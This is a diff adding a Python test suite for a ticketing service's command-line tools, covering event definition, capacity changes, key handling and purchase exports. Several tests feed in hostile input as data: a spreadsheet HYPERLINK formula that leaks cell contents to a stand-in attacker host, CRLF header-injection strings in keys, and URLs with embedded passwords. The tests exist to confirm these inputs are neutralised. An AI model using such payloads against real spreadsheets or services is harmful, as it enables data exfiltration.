@@ -1,0 +1,631 @@
+"""The commands that ask a running service: `holdfast event` and `holdfast export`."""
+
+import contextlib
+import csv
+import http.client
+import http.server
+import io
+import json
+import os
+import pathlib
+import signal
+import socket
+import stat
+import subprocess
+import tempfile
+import threading
+import time
+import unittest
+
+from support.service import ServiceCase, Server, binary, clean_environment, command, event, eventually, make_key
+from support.wire import PATIENCE
+
+NOBODY = "http://127.0.0.1:1"
+SHOP = event({"floor": 10_000}, "shop", types=[
+    {"code": "GA", "name": "Floor", "price": 500, "pools": ["floor"]},
+    {"code": "BOX", "name": "Box, 4 seats", "price": 4000, "pools": ["floor"]}])
+
+
+class Room:
+    """A directory of the test's own, and files in it."""
+
+    def room(self):
+        """Return a directory that goes with the test."""
+        room = tempfile.TemporaryDirectory(prefix="holdfast-test-")
+        self.addCleanup(room.cleanup)
+        return room.name
+
+    def file(self, name, content):
+        """Write a file, of JSON unless it is text, and return its path."""
+        path = pathlib.Path(self.room(), name)
+        path.write_text(content if isinstance(content, str) else json.dumps(content))
+        return str(path)
+
+    def one_line(self, run, status, *words):
+        """Check that it ended so, and said why in one line that has these words."""
+        self.assertEqual(run.returncode, status, run)
+        self.assertEqual(len(run.stderr.splitlines()), 1, run.stderr)
+        for word in words:
+            self.assertIn(word, run.stderr)
+
+
+class Commands(Room, ServiceCase):
+    """One service, a key for each role."""
+
+    events = (SHOP,)
+    names = iter(range(1, 1_000_000))
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.key = make_key(cls.server)
+        cls.looks = make_key(cls.server, "viewer", "accounts")
+
+    @property
+    def url(self):
+        """Where the service is."""
+        return f"http://127.0.0.1:{self.server.port}"
+
+    def run_it(self, *arguments, key="operator", url=None, **more):
+        """Run a command against the service as the operator, or with another key, or with none."""
+        environment = {"HOLDFAST_URL": url or self.url}
+        if key:
+            environment["HOLDFAST_KEY"] = self.key if key == "operator" else key
+        return command(*arguments, env=environment, **more)
+
+    def fine(self, *arguments, **more):
+        """Run a command that has to work; return what it printed."""
+        run = self.run_it(*arguments, **more)
+        self.assertEqual((run.returncode, run.stderr), (0, ""), run)
+        return run.stdout
+
+    def shown(self, name):
+        """Return the event as the API tells it."""
+        return self.server.get(f"/v1/events/{name}").json()
+
+    def make(self, places=10, **members):
+        """Define a new event with the command; return its name, document and file."""
+        name = f"made-{next(self.names)}"
+        document = event(places, name, **members)
+        path = self.file("event.json", document)
+        self.assertEqual(self.fine("event", "define", path), f"{name}: made\n")
+        return name, document, path
+
+    def hold(self, name, kind="GA", count=1):
+        """Hold places over the API; return the answer."""
+        fields = ["Content-Type: application/json", f"Idempotency-Key: hold-{next(self.names):016}"]
+        body = json.dumps({"lines": [{"type": kind, "quantity": count}]}).encode()
+        return self.server.ask("POST", f"/v1/events/{name}/holds", fields, body)
+
+    def sell(self, name, **paid):
+        """Sell a ticket over the API."""
+        held = self.hold(name, paid.pop("kind", "GA")).json()
+        answer = self.server.ask(
+            "POST", f"/v1/holds/{held['id']}/purchase",
+            [f"Authorization: Bearer {held['token']}", "Content-Type: application/json"], json.dumps(paid).encode())
+        self.assertEqual(answer.status, 200, answer)
+
+    def test_help(self):
+        """Each command has help with examples and says what it needs."""
+        for words in (["event"], ["event", "define"], ["event", "capacity"], ["export", "purchases"]):
+            self.assertIn("EXAMPLES", command(*words, "--help").stdout)
+        shown = command("event", "pause", "--help").stdout
+        for word in ("--url", "--key-file", "HOLDFAST_URL", "HOLDFAST_KEY", "--json"):
+            self.assertIn(word, shown)
+
+    def test_looking(self):
+        """list and show need no key, show what the API tells, and --json is its very answer."""
+        # What turns or hides no text: it is shown as it is, and nothing worse can be in a name.
+        name, _, _ = self.make({"floor": 12_345}, name="Evil \u200f name", hold_seconds=77)
+        self.server.ask("GET", f"/v1/events/{name}")
+        lines = [line.split(None, 2) for line in self.fine("event", "list", key=None).splitlines()]
+        self.assertEqual(lines[0], ["EVENT", "STATE", "NAME"])
+        self.assertEqual([line[:2] for line in lines if line[0] == name], [[name, "open"]])
+        listed = json.loads(self.fine("event", "list", "--json", key=None))
+        self.assertEqual(listed, self.server.get("/v1/events").json())
+        sheet = self.fine("event", "show", name, key=None)
+        for word in ("for 77 s", "12,345", "GA", "open", self.server.get(f"/v1/events/{name}").header("etag")):
+            self.assertIn(word, sheet)
+        self.assertEqual(self.hold(name, count=5).status, 201)
+        self.assertIn("12,340", self.fine("event", "show", name, key=None))
+        for output in (sheet, self.fine("event", "list", key=None)):
+            self.assertIn("Evil", output)
+        shown = self.fine("event", "show", name, "--json", key=None)
+        self.assertEqual(shown, self.server.get(f"/v1/events/{name}").body.decode() + "\n")
+        self.one_line(self.run_it("event", "show", "nowhere"), 1, "nowhere")
+        self.assertEqual(self.run_it("event", "show", "../keys").returncode, 64)
+
+    def test_buckets(self):
+        """Where an event discloses no numbers, show has its words, and the numbers with a key."""
+        name, _, _ = self.make(1_234, disclose="buckets")
+        shown = self.fine("event", "show", name, key=None)
+        self.assertIn("available", shown)
+        self.assertNotIn("1,234", shown)
+        self.assertEqual(self.fine("event", "show", name).count("1,234"), 2)
+
+    def test_pausing(self):
+        """pause stops new holds, resume sells again; both can be said twice."""
+        name, _, _ = self.make()
+        for _ in range(2):
+            self.assertEqual(self.fine("event", "pause", name), f"{name} is paused\n")
+            self.assertEqual(self.hold(name).json()["code"], "sale-paused")
+        for _ in range(2):
+            self.assertEqual(self.fine("event", "resume", name), f"{name} is not paused; its sale is open\n")
+            self.assertEqual(self.hold(name).status, 201)
+        self.assertIs(json.loads(self.fine("event", "pause", name, "--json"))["paused"], True)
+        self.one_line(self.run_it("event", "pause", "nowhere"), 1, "unknown-event")
+
+    def test_keys(self):
+        """A key comes from the environment or a file, never from the command line; each refusal says what is wrong,
+        and none tells the key."""
+        name, _, _ = self.make()
+        file = self.file("key", f"{self.key}\n")
+        wrong = self.key[:-1] + ("A" if self.key[-1] != "A" else "Q")
+        self.assertEqual(self.fine("event", "pause", name, "--key-file", file, key=wrong), f"{name} is paused\n")
+        self.assertEqual(self.run_it("event", "resume", name, "--key", self.key, key=None).returncode, 64)
+        self.one_line(self.run_it("event", "resume", name, key=None), 1, "HOLDFAST_KEY", "--key-file")
+        self.one_line(self.run_it("event", "resume", name, key=wrong), 1, "not know this key")
+        self.one_line(self.run_it("event", "resume", name, key=self.looks), 1, "look")
+        self.one_line(self.run_it("event", "resume", name, key="secret\r\nX: y"), 78, "HOLDFAST_KEY")
+        self.one_line(self.run_it("event", "resume", name, "--key-file", "/nowhere/key"), 78, "/nowhere/key")
+        self.one_line(self.run_it("event", "resume", name, "--key-file", self.file("k", "hfk_\x00")), 78)
+        for key in (wrong, self.looks, "sesame\r\nX: y", "hfk_3f9ab2cd_sesame sesame", "hfk_" + 200 * "sesame"):
+            for arguments in (["event", "resume", name], ["event", "define", self.file("x.json", event(1, "x"))],
+                              ["export", "purchases", name, "--force"], ["export", "purchases", "nowhere"]):
+                run = self.run_it(*arguments, key=key)
+                self.assertNotEqual(run.returncode, 0)
+                for secret in (wrong[13:], self.looks[13:], "sesame"):
+                    self.assertNotIn(secret, run.stdout + run.stderr)
+        self.assertIs(self.shown(name)["paused"], True)
+        leaving = make_key(self.server, name="Leaving")
+        self.assertEqual(self.run_it("event", "resume", name, key=leaving).returncode, 0)
+        command("key", "revoke", leaving.split("_")[1], "--data", self.server.data)
+        self.one_line(self.run_it("event", "pause", name, key=leaving), 1, "not know this key", "revoked")
+        self.assertIs(self.shown(name)["paused"], False)
+
+    def test_audit_names_the_key(self):
+        """What a command changed stands in the audit under its key."""
+        name, _, _ = self.make()
+        self.fine("event", "pause", name)
+        rows = self.server.rows(f"SELECT action, key FROM audit WHERE subject = '{name}' ORDER BY seq")
+        self.assertEqual(rows, [("event.define", self.key.split("_")[1]), ("event.pause", self.key.split("_")[1])])
+
+    def test_defining(self):
+        """define makes an event, leaves it alone where nothing is different, and tells every difference."""
+        name, document, path = self.make({"floor": 10, "box": 2})
+        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 10, "box": 2})
+        tag = self.server.get(f"/v1/events/{name}").header("etag")
+        self.assertEqual(self.fine("event", "define", path), f"{name}: as it was\n")
+        self.assertEqual(self.server.get(f"/v1/events/{name}").header("etag"), tag)
+        document["pools"] = {"floor": 12_000, "side": 7}
+        document["types"] = [{"code": "GA", "price": 500, "pools": ["floor"]}, {"code": "S", "pools": ["side"]}]
+        document["sale"] = {"closes_at": "2100-01-01T00:00:00Z"}
+        path = self.file("new.json", document)
+        dry = self.fine("event", "define", "--dry-run", path).splitlines()
+        self.assertEqual(self.server.get(f"/v1/events/{name}").header("etag"), tag)
+        told = self.fine("event", "define", path).splitlines()
+        self.assertEqual((dry[0], told[0]), (f"{name}: would be replaced", f"{name}: replaced"))
+        self.assertEqual(dry[1:], told[1:])
+        self.assertEqual([line.split(None, 1) for line in told[1:]], [
+            ["sale.closes_at", "null -> 2100-01-01T00:00:00.000Z"], ["pools.floor", "10 -> 12,000"],
+            ["pools.side", "new: 7"], ["types.GA.price", "0 -> 500"], ["types.S.name", "new: S"],
+            ["types.S.price", "new: 0"], ["types.S.pools", "new: side"], ["pools.box", "removed, was 2"],
+            ["types.BOX.name", "removed, was BOX"], ["types.BOX.price", "removed, was 0"],
+            ["types.BOX.pools", "removed, was box"]])
+        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 12_000, "side": 7})
+        document["types"].reverse()
+        told = self.fine("event", "define", self.file("order.json", document))
+        self.assertIn("order of its pools or types", told)
+        self.assertEqual([one["code"] for one in self.shown(name)["definition"]["types"]], ["S", "GA"])
+        answer = json.loads(self.fine("event", "define", "--json", path))
+        self.assertEqual(answer, self.shown(name))
+
+    def test_mistakes_in_files(self):
+        """Every mistake of every file is told at once with its place, and nothing is done."""
+        good = self.file("good.json", event(1, "never-made"))
+        bad = self.file("bad.json", event({"floor": -1}, "b d", hold_seconds=0, wrong=1))
+        broken = self.file("broken.json", '{"id": "x",\n  "pools" 3}')
+        run = self.run_it("event", "define", good, bad, broken, "/nowhere/file.json")
+        self.assertEqual((run.returncode, run.stdout), (78, ""))
+        for word in (bad, "/id", "/pools/floor", "/hold_seconds", "/wrong", broken, "line 2", "/nowhere/file.json"):
+            self.assertIn(word, run.stderr)
+        self.one_line(self.run_it("event", "define", good, good), 78, "never-made")
+        self.assertEqual(self.server.get("/v1/events/never-made").status, 404)
+        self.assertEqual(self.run_it("event", "define").returncode, 64)
+
+    def test_the_service_refuses(self):
+        """What only the service can see is told with its place, too, and nothing is changed."""
+        name, document, _ = self.make({"floor": 10, "box": 2})
+        self.assertEqual(self.hold(name, "BOX").status, 201)
+        del document["pools"]["box"]
+        del document["types"][1]
+        run = self.run_it("event", "define", self.file("less.json", document))
+        self.assertEqual((run.returncode, run.stdout), (1, ""))
+        self.assertIn("(validation-failed)", run.stderr)
+        self.assertIn("/pools", run.stderr)
+        self.assertIn("box", self.shown(name)["definition"]["pools"])
+        many = event(1, "large", types=[
+            {"code": f"T{number}", "name": "n" * 200, "pools": ["floor"]} for number in range(400)])
+        run = self.run_it("event", "define", self.file("large.json", many))
+        self.one_line(run, 1, "large", "content-too-large")
+
+    def test_capacity(self):
+        """A pool gets a number of places, or some more, or some fewer; a slip of the pen changes nothing."""
+        name, _, _ = self.make({"floor": 5_000, "box": 2})
+        for number, places, before in (("6000", "6,000", "5,000"), ("+100", "6,100", "6,000"),
+                                       ("-99", "6,001", "6,100"), ("+0", "6,001", "6,001"), ("0", "0", "6,001")):
+            self.assertEqual(self.fine("event", "capacity", name, "floor", number),
+                             f"{name}: floor has {places} places, had {before}\n")
+            self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": int(places.replace(",", "")), "box": 2})
+        answer = json.loads(self.fine("event", "capacity", "--json", name, "box", "-1"))
+        self.assertEqual(answer["definition"]["pools"], {"floor": 0, "box": 1})
+        tag = self.server.get(f"/v1/events/{name}").header("etag")
+        self.one_line(self.run_it("event", "capacity", name, "flor", "7"), 1, "flor", "floor, box")
+        self.one_line(self.run_it("event", "capacity", name, "box", "-2"), 1, "1 places")
+        self.one_line(self.run_it("event", "capacity", "nowhere", "box", "2"), 1, "nowhere")
+        run = self.run_it("event", "capacity", name, "box", "99999999999")
+        self.assertEqual(run.returncode, 1)
+        self.assertIn("/pools/box", run.stderr)
+        for wrong in ("x", "1.5", "", "9" * 30, "--", "+", "1 2"):
+            self.assertEqual(self.run_it("event", "capacity", name, "box", wrong).returncode, 64, wrong)
+        self.assertEqual(self.run_it("event", "capacity", name, "box", "1", "2").returncode, 64)
+        self.assertEqual(self.run_it("event", "capacity", name, "box").returncode, 64)
+        self.assertEqual(self.server.get(f"/v1/events/{name}").header("etag"), tag)
+
+    def change(self, name, document, method="PATCH"):
+        """Change an event as somebody else, or make it."""
+        fields = [f"Authorization: Bearer {self.key}", "Content-Type: application/json"]
+        answer = self.server.ask(method, f"/v1/events/{name}", fields + ["If-Match: *"] * (method == "PATCH"),
+                                 json.dumps(document).encode())
+        self.assertLess(answer.status, 300, answer)
+
+    @contextlib.contextmanager
+    def meddler(self, name, times, document, method="PATCH"):
+        """Stand before the service and change the event after each of the first looks at it."""
+        seen = []
+
+        def look(handler):
+            length = int(handler.headers.get("Content-Length") or 0)
+            inner = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=PATIENCE)
+            fields = {key: value for key, value in handler.headers.items() if key.lower() != "host"}
+            inner.request(handler.command, handler.path, handler.rfile.read(length), fields)
+            answer = inner.getresponse()
+            body = answer.read()
+            inner.close()
+            if handler.command == "GET" and len(seen) < times:
+                seen.append(handler.path)
+                self.change(name, document(len(seen)), method)
+            handler.reply(answer.status, body, [("ETag", answer.getheader("ETag") or '"none"'),
+                                                ("Content-Type", answer.getheader("Content-Type"))])
+
+        with stand_in(look) as url:
+            yield url
+        self.assertEqual(len(seen), times)
+
+    def test_somebody_is_faster(self):
+        """define overwrites nobody's change; capacity adds to what is there then, and gives up after a few times."""
+        name, document, _ = self.make({"floor": 100})
+        path = self.file("mine.json", document | {"hold_seconds": 99})
+        with self.meddler(name, 1, lambda _: {"name": "theirs"}) as url:
+            self.one_line(self.run_it("event", "define", path, url=url), 1, name, "somebody else")
+        self.assertEqual(self.shown(name)["definition"]["name"], "theirs")
+        self.assertEqual(self.shown(name)["definition"]["hold_seconds"], 300)
+        with self.meddler(name, 3, lambda number: {"pools": {"floor": 100 + 10 * number}}) as url:
+            told = self.fine("event", "capacity", name, "floor", "+5", url=url)
+        self.assertEqual(told, f"{name}: floor has 135 places, had 130\n")
+        with self.meddler(name, 5, lambda number: {"pools": {"floor": 1000 + number}}) as url:
+            self.one_line(self.run_it("event", "capacity", name, "floor", "+5", url=url), 1, "5 times", "nothing was done")
+        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 1005})
+        name = f"made-{next(self.names)}"
+        path = self.file("new.json", event(1, name))
+        with self.meddler(name, 1, lambda _: event(2, name), "PUT") as url:
+            self.one_line(self.run_it("event", "define", path, url=url), 1, name, "somebody else")
+        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 2})
+
+    def test_export(self):
+        """What is exported, to a file or to a pipe, is what the API streams."""
+        name, _, _ = self.make(1_000, types=SHOP["types"])
+        for number in range(12):
+            self.sell(name, kind=("GA", "BOX")[number % 2], payment_reference=f"{name},\"{number}")
+        for form, kind in (("csv", "text/csv"), ("ndjson", "application/x-ndjson")):
+            answer = self.server.ask("GET", f"/v1/events/{name}/purchases",
+                                     [f"Authorization: Bearer {self.key}", f"Accept: {kind}"])
+            path = os.path.join(self.room(), "out")
+            self.assertEqual(self.fine("export", "purchases", name, "--format", form, "--output", path, key=self.looks), "")
+            self.assertEqual(pathlib.Path(path).read_bytes(), answer.body)
+            self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600)
+            self.assertEqual(os.listdir(os.path.dirname(path)), ["out"])
+            piped = subprocess.run(
+                [binary(), "export", "purchases", name, "--format", form], capture_output=True, timeout=30,
+                env=clean_environment({"HOLDFAST_URL": self.url, "HOLDFAST_KEY": self.key}))
+            self.assertEqual((piped.returncode, piped.stdout, piped.stderr), (0, answer.body, b""))
+        rows = list(csv.DictReader(io.StringIO(self.fine("export", "purchases", name))))
+        self.assertEqual([row["payment_reference"] for row in rows], [f"{name},\"{number}" for number in range(12)])
+
+    def test_export_of_formulas(self):
+        """What a spreadsheet would calculate begins with an apostrophe in CSV, unless it is kept; --bom marks UTF-8."""
+        name, _, _ = self.make(1_000)
+        plain = ["A=1", "1+1", "'", "a-b@c.example", "é"]
+        formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2", "@SUM(A1)", "\uff1d1"]
+        for reference in plain + formulas:
+            self.sell(name, payment_reference=f"{reference}{name}")
+
+        def read(*more):
+            text = self.fine("export", "purchases", name, *more)
+            return [row["payment_reference"][:-len(name)] for row in csv.DictReader(io.StringIO(text, newline=""))]
+
+        self.assertEqual(read(), plain + ["'" + formula for formula in formulas])
+        self.assertEqual(read("--keep-formulas"), plain + formulas)
+        marked = self.fine("export", "purchases", name, "--bom")
+        self.assertEqual(marked, "\ufeff" + self.fine("export", "purchases", name))
+        ndjson = self.fine("export", "purchases", name, "--format", "ndjson")
+        self.assertEqual([json.loads(line)["payment_reference"][:-len(name)] for line in ndjson.splitlines()],
+                         plain + formulas)
+        for flag in ("--bom", "--keep-formulas"):
+            self.assertEqual(self.run_it("export", "purchases", name, "--format", "ndjson", flag).returncode, 64)
+
+    def test_export_and_files(self):
+        """A file that is there is kept unless it is forced; where none can be made, that is said; nothing is left."""
+        room = self.room()
+        path = os.path.join(room, "out.csv")
+        pathlib.Path(path).write_text("precious")
+        self.one_line(self.run_it("export", "purchases", "shop", "--output", path), 73, path, "--force")
+        self.assertEqual(pathlib.Path(path).read_text(), "precious")
+        for failing in (["nowhere"], ["shop", "--url", NOBODY]):
+            self.assertNotEqual(
+                self.run_it("export", "purchases", *failing, "--output", path, "--force").returncode, 0)
+            self.assertEqual(pathlib.Path(path).read_text(), "precious")
+        self.fine("export", "purchases", "shop", "--output", path, "--force")
+        self.assertTrue(pathlib.Path(path).read_text().startswith("purchase,hold,event,"))
+        self.one_line(self.run_it("export", "purchases", "shop", "--output", room, "--force"), 73, room)
+        self.one_line(self.run_it("export", "purchases", "shop", "--output", room + "/no/file"), 73, "No such file")
+        self.one_line(self.run_it("export", "purchases", "nowhere", "--output", path + "2"), 1, "unknown-event")
+        self.assertEqual(os.listdir(room), ["out.csv"])
+        with open("/dev/full", "w") as full:
+            run = subprocess.run([binary(), "export", "purchases", "shop"], stdout=full, stderr=subprocess.PIPE,
+                                 timeout=30, text=True,
+                                 env=clean_environment({"HOLDFAST_URL": self.url, "HOLDFAST_KEY": self.key}))
+        self.one_line(run, 73, "No space left")
+        self.assertEqual(self.run_it("export", "purchases", "shop", "--format", "xml").returncode, 64)
+        self.assertEqual(self.run_it("export", "purchases", "shop", "--force").returncode, 64)
+
+    def test_serving_with_the_variables(self):
+        """The service starts where the commands' variables are set, and does not tell the key."""
+        with Server(event(5), environment={"HOLDFAST_URL": NOBODY, "HOLDFAST_KEY": self.key}) as server:
+            self.assertNotIn(self.key[13:], server.everything_said())
+        self.one_line(command("event", "list", env={"HOLDFAST_UARL": "x"}), 64, "HOLDFAST_URL?")
+
+
+@contextlib.contextmanager
+def stand_in(reply):
+    """Serve HTTP on a free port, each request by `reply(handler)`; yield the address."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def reply(self, status, body=b"", fields=()):
+            self.send_response(status)
+            for field, value in fields:
+                self.send_header(field, value)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def answer(self):
+            with contextlib.suppress(ConnectionError):
+                reply(self)
+
+        do_GET = do_PUT = do_PATCH = answer
+
+        def log_message(self, *_):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.daemon_threads = True
+    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(PATIENCE)
+
+
+class WithoutAService(Room, unittest.TestCase):
+    """What the commands say where there is no service, a strange one, or one that breaks off."""
+
+    key = "hfk_abcdefgh_" + "S" * 43
+
+    def run_it(self, url, *arguments, **more):
+        """Run a command against this address."""
+        return command(*arguments, env={"HOLDFAST_URL": url, "HOLDFAST_KEY": self.key}, **more)
+
+    def every(self):
+        """Return one command line of each kind."""
+        return (["event", "list"], ["event", "show", "main"], ["event", "pause", "main"], ["event", "resume", "main"],
+                ["event", "capacity", "main", "floor", "5"], ["event", "define", self.file("e.json", event(5))],
+                ["export", "purchases", "main"])
+
+    def test_nobody_there(self):
+        """Where nobody listens, every command says so in one line, at once, and ends with 69."""
+        with socket.socket() as unheard:
+            unheard.bind(("127.0.0.1", 0))
+            url = f"http://127.0.0.1:{unheard.getsockname()[1]}"
+            for arguments in self.every():
+                began = time.monotonic()
+                self.one_line(self.run_it(url, *arguments), 69, url, "Connection refused")
+                self.assertLess(time.monotonic() - began, 4)
+        self.one_line(self.run_it("http://nowhere.invalid", "event", "list"), 69, "nowhere.invalid")
+
+    def test_wrong_addresses(self):
+        """An address that is none is wrong use, and is not repeated: it may hold a password."""
+        for url in ("x", "ftp://host", "http://", "http://u:sesame@host", "http://host?sesame", "//host"):
+            run = self.run_it(url, "event", "list")
+            self.one_line(run, 64, "http://127.0.0.1:8000")
+            self.assertNotIn("sesame", run.stderr)
+
+    def test_strangers(self):
+        """What answers and is no Holdfast is told as that, whatever it answers."""
+        answers = [(200, b"<html>", "text/html"), (404, b"gone", "text/plain"), (200, b"{}", "application/json"),
+                   (500, b"{}", "application/problem+json"), (200, b"[" * 100_000, "application/json"),
+                   (302, b"", "text/html")]
+        for status, body, kind in answers:
+            def reply(handler, status=status, body=body, kind=kind):
+                handler.reply(status, body, [("Content-Type", kind), ("ETag", '"1"')])
+            with stand_in(reply) as url:
+                for arguments in self.every():
+                    self.one_line(self.run_it(url, *arguments), 1, url, str(status), "not as Holdfast does")
+
+    def test_trace_goes_along(self):
+        """The trace that a command belongs to is given to the service; one that could be no header is not."""
+        seen = []
+        parent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
+
+        def note(handler):
+            seen.append(handler.headers.get("traceparent"))
+            handler.reply(200)
+
+        with stand_in(note) as url:
+            for variable in ({"TRACEPARENT": parent}, {"TRACEPARENT": "a\nb"}, {}):
+                command("event", "list", env={"HOLDFAST_URL": url, **variable})
+        self.assertEqual(seen, [parent, None, None])
+
+    def test_redirects(self):
+        """A redirect is not followed: the key goes to nobody who was not named."""
+        seen = []
+
+        def elsewhere(handler):
+            seen.append(handler.headers)
+            handler.reply(200)
+
+        with stand_in(elsewhere) as other, stand_in(
+                lambda handler: handler.reply(307, b"", [("Location", other + handler.path)])) as url:
+            for arguments in self.every():
+                self.assertEqual(self.run_it(url, *arguments).returncode, 1)
+        self.assertEqual(seen, [])
+
+    def test_no_tls(self):
+        """An https address at which nobody speaks TLS is told as that, without a place in somebody's source."""
+        with stand_in(lambda handler: handler.reply(200)) as url:
+            run = self.run_it(url.replace("http", "https"), "event", "list")
+            self.one_line(run, 69, "no TLS connection", "WRONG_VERSION_NUMBER")
+            self.assertNotIn(".cc", run.stderr)
+
+    def test_breaking_off(self):
+        """An answer that breaks off ends with 69; of a change it is said that nobody knows whether it was done."""
+        def reply(handler):
+            handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 99\r\n\r\n{")
+            handler.close_connection = True
+
+        with stand_in(reply) as url:
+            self.one_line(self.run_it(url, "event", "list"), 69, url, "did not answer to the end")
+            self.one_line(self.run_it(url, "event", "pause", "main"), 69, "not known")
+
+    @contextlib.contextmanager
+    def source(self, after, pieces=None):
+        """Stream CSV: so many pieces of 64 KiB or without end, and then do `after`; yield address and byte count."""
+        sent = [0]
+        piece = (b"x" * 63 + b"\n") * 1024
+
+        def reply(handler):
+            handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/csv; charset=utf-8\r\n"
+                                b"Transfer-Encoding: chunked\r\n\r\n")
+            while pieces is None or sent[0] < pieces * len(piece):
+                handler.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+                sent[0] += len(piece)
+            after(handler)
+
+        with stand_in(reply) as url:
+            yield url, sent
+
+    @staticmethod
+    def whole(handler):
+        """End a stream as it should."""
+        handler.wfile.write(b"0\r\n\r\n")
+
+    @staticmethod
+    def cut(handler):
+        """End a stream before its end."""
+        handler.close_connection = True
+
+    def start(self, url, *arguments, **streams):
+        """Start an export."""
+        process = subprocess.Popen(
+            [binary(), "export", "purchases", "main", *arguments], stderr=subprocess.PIPE, text=True,
+            env=clean_environment({"HOLDFAST_URL": url, "HOLDFAST_KEY": self.key}), **streams)
+        self.addCleanup(process.stderr.close)
+        self.addCleanup(process.wait)
+        self.addCleanup(process.kill)
+        return process
+
+    def test_export_cut_off(self):
+        """An export that breaks off makes no file, also where it replaces one, and ends with 69."""
+        room = self.room()
+        path = os.path.join(room, "out")
+        with self.source(self.cut, 5) as (url, _):
+            self.one_line(self.run_it(url, "export", "purchases", "main", "--output", path), 69, "did not answer")
+            self.assertEqual(os.listdir(room), [])
+            pathlib.Path(path).write_text("old")
+            self.assertEqual(
+                self.run_it(url, "export", "purchases", "main", "--output", path, "--force").returncode, 69)
+            self.assertEqual(pathlib.Path(path).read_text(), "old")
+            self.assertEqual(os.listdir(room), ["out"])
+            self.assertEqual(self.run_it(url, "export", "purchases", "main").returncode, 69)
+
+    def test_export_stopped(self):
+        """An export that is stopped takes back what it began."""
+        for number in (signal.SIGINT, signal.SIGTERM):
+            room = self.room()
+            with self.source(self.whole) as (url, _):
+                process = self.start(url, "--output", os.path.join(room, "out"))
+                self.assertTrue(eventually(lambda: any(os.stat(os.path.join(room, name)).st_size > 1 << 20
+                                                       for name in os.listdir(room))))
+                self.assertEqual([name.split(".")[::2] for name in os.listdir(room)], [["out", "partial"]])
+                process.send_signal(number)
+                self.assertEqual(process.wait(PATIENCE), 1)
+                self.assertIn("stopped", process.stderr.read())
+                self.assertEqual(os.listdir(room), [])
+
+    def test_a_file_comes_meanwhile(self):
+        """A file that somebody makes during an export is not overwritten."""
+        room = self.room()
+        path = os.path.join(room, "out")
+        go = threading.Event()
+
+        def wait(handler):
+            go.wait(PATIENCE)
+            self.whole(handler)
+
+        with self.source(wait, 20) as (url, _):
+            process = self.start(url, "--output", path)
+            self.assertTrue(eventually(lambda: os.listdir(room)))
+            pathlib.Path(path).write_text("theirs")
+            go.set()
+            self.assertEqual(process.wait(PATIENCE), 73)
+        self.assertEqual(pathlib.Path(path).read_text(), "theirs")
+        self.assertEqual(os.listdir(room), ["out"])
+
+    def test_export_in_little_memory(self):
+        """An export takes no more memory for 200 MB than for 2, and reads no faster than it is read."""
+        most = {}
+        for pieces in (32, 3200):
+            with self.source(self.whole, pieces) as (url, sent):
+                process = self.start(url, stdout=subprocess.DEVNULL)
+                _, status, usage = os.wait4(process.pid, 0)
+                process.returncode = os.waitstatus_to_exitcode(status)
+                self.assertEqual(process.returncode, 0)
+                self.assertEqual(sent[0], pieces << 16)
+                most[pieces] = usage.ru_maxrss << 10
+        self.assertLess(most[3200] - most[32], 16 << 20, most)
+        with self.source(self.whole) as (url, sent):
+            process = self.start(url, stdout=subprocess.PIPE)
+            self.addCleanup(process.stdout.close)
+            self.assertTrue(eventually(lambda: sent[0] > 0))
+            before = -1
+            while sent[0] != before:
+                before = sent[0]
+                time.sleep(0.5)
+            # What the kernel's buffers take; nothing behind them asks for more.
+            self.assertLess(before, 32 << 20)
+            process.kill()
